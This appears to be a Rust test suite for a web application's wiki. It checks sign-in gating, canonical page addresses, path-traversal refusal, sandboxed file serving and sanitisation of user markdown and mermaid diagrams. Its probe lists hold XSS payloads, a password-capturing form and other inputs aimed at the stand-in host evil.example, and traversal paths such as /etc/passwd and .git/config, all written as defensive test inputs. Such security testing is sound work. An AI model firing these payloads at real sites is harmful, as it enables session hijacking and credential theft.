//! The wiki: who reads it, what its texts become, and what its pictures may do.

use berth_wire::web::{Bytes, DocEdit, DocFile, DocFileRead, DocRead, DocSheet, Docs, DocsSearch, Why};
use http::StatusCode;

use crate::browser::Page;
use crate::door::refusal;
use crate::html::tags;
use crate::panel::Panel;
use crate::platform::{doc, docs, furnish};

/// Policy of what members have made.
const SANDBOX: &str = "sandbox; default-src 'none'; style-src 'unsafe-inline'";

/// A panel whose wiki has one page, with this text.
async fn with_page(text: &'static str) -> Panel {
    let panel = Panel::start().await;
    furnish(&panel.door, "x");
    panel.door.answer(move |_, _, _: DocRead| Ok(doc(text)));
    panel
}

/// Returns whether a page links to a path.
fn is_link(page: &Page, to: &str) -> bool {
    tags(&page.text).iter().any(|tag| tag.name == "a" && tag.get("href") == Some(to))
}

/// Returns whether a page links to a path that begins like this.
pub(crate) fn leads_below(page: &Page, start: &str) -> bool {
    tags(&page.text).iter().any(|tag| tag.get("href").is_some_and(|to| to.starts_with(start)))
}

/// Has the door let only those read the wiki who are signed in.
fn for_members(panel: &Panel) {
    let closed = |me: &str| if me.is_empty() { Err(refusal(Why::SignedOut, "sign in")) } else { Ok(()) };
    panel.door.answer(move |_, me, _: Docs| closed(me).map(|()| docs("pages")));
    panel.door.answer(move |_, me, _: DocRead| closed(me).map(|()| doc("# The page\n")));
    panel.door.answer(move |_, me, _: DocsSearch| closed(me).and(Err(refusal(Why::Unavailable, "not now"))));
    panel.door.answer(move |_, me, _: DocFileRead| closed(me).and(Err(refusal(Why::NotFound, "no picture"))));
}

const PAGES: [&str; 6] = [
    "/docs/",
    "/docs/guide/first",
    "/docs/search?q=x",
    "/wiki/picture/a.png",
    "/wiki/diagram/0000",
    "/docs/guide/first?rev=abababababababababababababababababababab",
];

#[tokio::test(flavor = "multi_thread")]
async fn whom_the_door_lets_read_reads() {
    let panel = Panel::start().await;
    furnish(&panel.door, "x");
    for_members(&panel);
    for path in PAGES {
        let page = panel.browser().get(path).await;
        assert_eq!((page.status, page.header("location")), (StatusCode::SEE_OTHER, "/login"), "{path}");
    }
    // And comes back to where they were going.
    let browser = panel.browser();
    browser.get("/docs/guide/first").await;
    let page = browser.post("/login", &[("user", "bob"), ("password", crate::door::PASSWORD)]).await;
    assert_eq!(page.goes_to(), "/docs/guide/first");
    browser.get("/docs/guide/first").await.says(StatusCode::OK, "<h1>The page</h1>");
    // A session that has ended is none.
    panel.door.forget_everybody();
    assert_eq!(browser.get("/docs/").await.header("location"), "/login");
    // Where only admins read, a member is told so.
    panel.door.answer(|_, me, _: Docs| match me {
        "ann" => Ok(docs("pages")),
        _ => Err(refusal(Why::Forbidden, "Only admins read the wiki here.")),
    });
    panel.signed_in("bob").await.get("/docs/").await.says(StatusCode::FORBIDDEN, "Only admins");
    panel.signed_in("ann").await.get("/docs/").await.says(StatusCode::OK, "pages");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_public_wiki_is_for_anybody_and_changes_for_nobody() {
    let panel = with_page("# The page\n\ntext\n").await;
    let public = |sheet: DocSheet| DocSheet { edit: DocEdit::Not, made_by: None, ..sheet };
    panel.door.answer(move |_, _, _: DocRead| Ok(public(doc("# The page\n\ntext\n"))));
    panel.door.answer(|_, me, _: Docs| {
        let edit = if me.is_empty() { DocEdit::Not } else { DocEdit::Freely };
        Ok(berth_wire::web::DocsCard { edit, ..docs("pages") })
    });
    let nobody = panel.browser();
    for path in ["/docs/", "/docs/guide/first", "/docs/search?q=x"] {
        let page = nobody.get(path).await;
        page.says(StatusCode::OK, "Sign in");
        let is_offered = leads_below(&page, "/wiki/edit") || leads_below(&page, "/wiki/new");
        assert!(!is_offered, "{path}: {}", page.text);
        assert_eq!(page.header("cache-control"), "no-store", "{path}");
    }
    for path in ["/wiki/new", "/wiki/edit/guide/first.md", "/wiki/upload", "/wiki/history/guide/first.md"] {
        assert_eq!(nobody.get(path).await.header("location"), "/login", "{path}");
        assert_eq!(nobody.post(path, &[("text", "x")]).await.text.matches("Saved").count(), 0);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_page_has_one_address_a_table_of_contents_and_ways_to_change_it() {
    let panel = with_page("# The page\n\n## One\n\n[there](../other.md#x) ![a](plan.png)\n\n## Two\n").await;
    let bob = panel.signed_in("bob").await;
    for path in ["/docs/guide/first.md", "/docs/guide/first/", "/docs/guide%2Ffirst"] {
        let page = bob.get(path).await;
        assert_eq!(
            (page.status, page.header("location")),
            (StatusCode::SEE_OTHER, "/docs/guide/first"),
            "{path}"
        );
    }
    assert_eq!(bob.get("/docs").await.header("location"), "/docs/");
    let page = bob.get("/docs/guide/first").await;
    page.says(StatusCode::OK, "<h1>The page</h1>");
    let tags = tags(&page.text);
    let leads = |to: &str| tags.iter().any(|tag| tag.name == "a" && tag.get("href") == Some(to));
    for to in [
        "#h-one",
        "#h-two",
        "/docs/other#h-x",
        "/wiki/edit/guide/first.md",
        "/wiki/history/guide/first.md",
        "/wiki/rename/guide/first.md",
        "/wiki/remove/guide/first.md",
        "/docs/",
    ] {
        assert!(leads(to), "{to}: {}", page.text);
    }
    assert!(tags.iter().any(|tag| tag.get("src") == Some("/wiki/picture/guide/plan.png")), "{}", page.text);
    let index = bob.get("/docs/").await;
    for to in
        ["/docs/README", "/docs/guide/first", "/wiki/new", "/wiki/upload", "/wiki/picture/guide/plan.png"]
    {
        assert!(is_link(&index, to), "{to}: {}", index.text);
    }
    // An older one says so, and can't be changed.
    panel.door.answer(|_, _, asked: DocRead| {
        Ok(DocSheet { is_past: asked.revision.is_some(), ..doc("# As it was\n") })
    });
    let old = bob.get("/docs/guide/first?rev=abababababababababababababababababababab").await;
    old.says(StatusCode::OK, "the page as it was");
    assert!(!leads_below(&old, "/wiki/edit/") && leads_below(&page, "/wiki/edit/"), "{}", old.text);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_page_that_is_not_there_can_be_made() {
    let panel = Panel::start().await;
    furnish(&panel.door, "x");
    panel.door.answer(|_, _, _: DocRead| Err(refusal(Why::NotFound, "there is no such page")));
    let bob = panel.signed_in("bob").await;
    let page = bob.get("/docs/guide/new-one").await;
    page.says(StatusCode::NOT_FOUND, "There is no such page");
    assert!(is_link(&page, "/wiki/new?path=guide%2Fnew-one.md"), "{}", page.text);
    bob.get("/wiki/new?path=guide%2Fnew-one.md")
        .await
        .says(StatusCode::OK, "value=\"guide&#x2f;new-one.md\"");
}

#[tokio::test(flavor = "multi_thread")]
async fn no_path_leads_out_of_the_wiki() {
    let panel = Panel::start().await;
    furnish(&panel.door, "x");
    // The door refuses them too; here it must not even look as if they were there.
    panel.door.answer(|_, _, asked: DocRead| {
        match berth_schema::docs::DocPath::read(&format!("{}.md", asked.path)) {
            Some(_) => Ok(doc("# The page\n")),
            None => Err(refusal(Why::NotFound, "there is no such page")),
        }
    });
    panel.door.answer(|_, _, asked: DocFileRead| match berth_schema::docs::DocPath::read(&asked.path) {
        Some(_) => Ok(DocFile { media_type: None, bytes: Bytes(b"x".to_vec()) }),
        None => Err(refusal(Why::NotFound, "there is no such picture")),
    });
    let bob = panel.signed_in("bob").await;
    for path in [
        "/docs/../platform",
        "/docs/%2e%2e/platform",
        "/docs/..%2fplatform",
        "/docs/%2e%2e%2fusers%2fbob",
        "/docs/a/../../x",
        "/docs//etc/passwd",
        "/docs/%2fetc%2fpasswd",
        "/docs/.git/config",
        "/docs/a/.git/config",
        "/docs/a%00b",
        "/docs/a%5cb",
        "/docs/%ff",
        "/docs/%252e%252e/x%0a",
        "/wiki/picture/../a.png",
        "/wiki/picture/%2e%2e%2fa.png",
        "/wiki/picture/.git/a.png",
        "/wiki/picture/users/bob.toml",
        "/wiki/picture/%2fa.png",
        "/wiki/picture/a.png%00",
    ] {
        let page = bob.get(path).await;
        assert_eq!(page.status, StatusCode::NOT_FOUND, "{path}: {}", page.text);
        assert!(!leads_below(&page, "/wiki/new?"), "{path}: it isn't offered to be made: {}", page.text);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_picture_is_what_its_bytes_are_and_stays_in_its_sandbox() {
    let panel = Panel::start().await;
    furnish(&panel.door, "x");
    panel.door.answer(|_, _, asked: DocFileRead| {
        let svg = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>".to_vec();
        Ok(match asked.path.as_str() {
            "plan.svg" => DocFile { media_type: Some("image/svg+xml".to_owned()), bytes: Bytes(svg) },
            "page.png" => DocFile { media_type: None, bytes: Bytes(b"<script>alert(1)</script>".to_vec()) },
            _ => DocFile { media_type: None, bytes: Bytes(b"<mxfile/>".to_vec()) },
        })
    });
    let bob = panel.signed_in("bob").await;
    for (path, kind, disposition) in [
        ("plan.svg", "image/svg+xml", "inline"),
        ("page.png", "application/octet-stream", "attachment; filename=\"page.png\""),
        ("a/pl\u{e4}n.drawio", "application/octet-stream", "attachment; filename=\"pl_n.drawio\""),
    ] {
        let path = path.replace('\u{e4}', "%C3%A4");
        let file = bob.get(&format!("/wiki/picture/{path}")).await;
        assert_eq!(file.status, StatusCode::OK, "{path}");
        assert_eq!(file.header("content-type"), kind, "{path}");
        assert_eq!(file.header("content-disposition"), disposition, "{path}");
        assert_eq!(file.header("content-security-policy"), SANDBOX, "{path}");
        assert_eq!(file.header("x-content-type-options"), "nosniff", "{path}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn texts_and_diagrams_do_nothing_but_show() {
    let probes = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<iframe src=javascript:alert(1)>",
        "<style>@import url(https://evil.example/x.css)</style>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<meta http-equiv=refresh content=0;url=https://evil.example>",
        "<base href=https://evil.example>",
        "<form action=https://evil.example><input name=password></form>",
        "[x](javascript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "![x](https://evil.example/pixel.png)",
        "![x](//evil.example/pixel.png)",
        "![\" onerror=\"alert(1)](a.png)",
        "[a](b.md \"\\\" onmouseover=\\\"alert(1)\")",
        "# </h1><script>alert(1)</script>",
        "```\n</code></pre><script>alert(1)</script>\n```",
        "```mermaid\nflowchart TD\n  A[\"<script>alert(1)</script>\"] --> B[\"<img src=x onerror=alert(1)>\"]\n```",
        "```mermaid\nflowchart TD\n  A --> B\n  click A \"javascript:alert(1)\"\n```",
        "```mermaid\nflowchart TD\n  A --> B\n  style A fill:url(https://evil.example/x)\n```",
        "```mermaid\n</code><script>alert(1)</script>\n```",
        "```mermaid\nsequenceDiagram\n  A->>B: </text><script>alert(1)</script>\n```",
    ];
    let panel = Panel::start().await;
    furnish(&panel.door, "x");
    let bob = panel.signed_in("bob").await;
    for probe in probes {
        panel.door.answer(move |_, _, _: DocRead| Ok(doc(probe)));
        let preview =
            [("step", "preview"), ("text", probe), ("base", "abababababababababababababababababababab")];
        for page in
            [bob.get("/docs/guide/first").await, bob.post("/wiki/edit/guide/first.md", &preview).await]
        {
            page.says(StatusCode::OK, "<h1>");
            for tag in tags(&page.text) {
                let acts = tag.attributes.iter().any(|(name, _)| name.starts_with("on") || name == "style");
                assert!(!acts, "{probe}: {tag:?}");
                let (name, src) = (tag.name.as_str(), tag.get("src").unwrap_or_default());
                let is_ours = match name {
                    "script" => src.starts_with("/assets/"),
                    "img" => src.starts_with("/wiki/"),
                    "link" => tag.get("href").is_some_and(|to| to.starts_with("/assets/")),
                    "form" => tag.get("action").is_some_and(|to| to.starts_with('/')),
                    "a" => tag.get("href").is_some_and(|to| {
                        to.starts_with(['/', '#']) || to.starts_with("https://evil.example")
                    }),
                    "iframe" | "svg" | "style" | "base" | "object" | "embed" => false,
                    "meta" => tag.get("http-equiv").is_none(),
                    _ => true,
                };
                assert!(is_ours, "{probe}: {tag:?}");
                if name == "img" && src.starts_with("/wiki/diagram/") {
                    let drawn = bob.get(src).await;
                    assert_eq!(drawn.status, StatusCode::OK, "{probe}");
                    assert_eq!(drawn.header("content-security-policy"), SANDBOX);
                    assert_eq!(drawn.header("content-type"), "image/svg+xml");
                    for bad in
                        ["<script", "onerror=alert(1)>", "javascript:", "evil.example", "<foreignObject"]
                    {
                        assert!(
                            !drawn.text.replace("&gt;", "").contains(bad),
                            "{probe}: {bad} in {}",
                            drawn.text
                        );
                    }
                }
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_diagram_is_drawn_or_its_text_is_shown_with_the_reason() {
    let panel = with_page("```mermaid\nflowchart TD\n  A[Push] --> B{Judge}\n  B -->|yes| C\n```\n").await;
    let bob = panel.signed_in("bob").await;
    let page = bob.get("/docs/guide/first").await;
    let tags = tags(&page.text);
    let src = tags.iter().find(|tag| tag.name == "img").and_then(|tag| tag.get("src")).unwrap().to_owned();
    let drawn = bob.get(&src).await;
    assert!(drawn.text.contains("<svg") && drawn.text.contains("Judge"), "{}", drawn.text);
    bob.get("/wiki/diagram/nothing").await.says(StatusCode::NOT_FOUND, "Load the page");
    let chain: String = (0..1200).map(|n| format!("  A{n} --> A{}\n", n + 1)).collect();
    let open: String = (0..500).map(|n| format!("subgraph s{n}\n")).collect();
    let deep = format!("```mermaid\nflowchart TD\n{open}A\n{}```\n", "end\n".repeat(500));
    for (text, says) in [
        ("```mermaid\nflowchart TD\n  A -->\n  [[[\n```\n".to_owned(), "can’t be drawn"),
        ("```mermaid\nno such diagram\n```\n".to_owned(), "can’t be drawn"),
        (format!("```mermaid\nflowchart TD\n{chain}```\n"), "more than 16 KiB"),
        (deep, "can’t be drawn"),
        (
            "```mermaid\nflowchart TD\n  A --> B\n  style A fill:url(https://evil.example/x)\n```\n"
                .to_owned(),
            "loads something from elsewhere",
        ),
    ] {
        let text: &'static str = Box::leak(text.into_boxed_str());
        panel.door.answer(move |_, _, _: DocRead| Ok(doc(text)));
        let page = bob.get("/docs/guide/first").await;
        page.says(StatusCode::OK, says);
        assert!(!page.text.contains("<img") && page.text.contains("<pre"), "{}", page.text);
    }
}
